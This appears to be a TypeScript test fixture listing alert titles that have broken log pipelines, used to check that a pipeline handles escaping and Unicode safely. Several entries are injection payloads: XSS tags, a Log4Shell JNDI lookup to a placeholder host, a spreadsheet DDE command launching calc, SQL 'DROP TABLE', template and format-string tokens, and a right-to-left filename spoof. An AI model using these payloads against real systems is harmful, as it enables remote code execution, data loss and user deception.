/** Titles that have broken log pipelines: each goes into some alert's title and description. */
export const HOSTILE_TITLES: readonly [string, ...string[]] = [
  'Suspicious "quoted" file \'name\' with C:\\back\\slash\\',
  'CEF:0|Vendor|Product|1.0|100|pipe|10|src=192.0.2.1 act=blocked \\=escaped\\|',
  'First line\nSecond line\r\nThird line\twith a tab',
  '<script>alert("title")</script><img src=x onerror=alert(1)>',
  'Emoji in title \u{1F480}\u{1F468}\u200D\u{1F4BB} and \u{20BB7} beyond the BMP',
  'Replacement \uFFFD\tcharacter as Microsoft itself sends it',
  'Right-to-left \u202Egpj.exe and \u05E9\u05DC\u05D5\u05DD, \u0645\u0631\u062D\u0628\u0627',
  '%s %n $\u007Bjndi:ldap://203.0.113.7/a} {{7*7}} $START_AT_TIME',
  "=cmd|' /C calc'!A0, ;DROP TABLE alerts;--",
  '   blanks around and a null sign \u2400   ',
  'e\u0301 combining, \u200Bzero width, \u00A0no break, \u2028line separator',
];
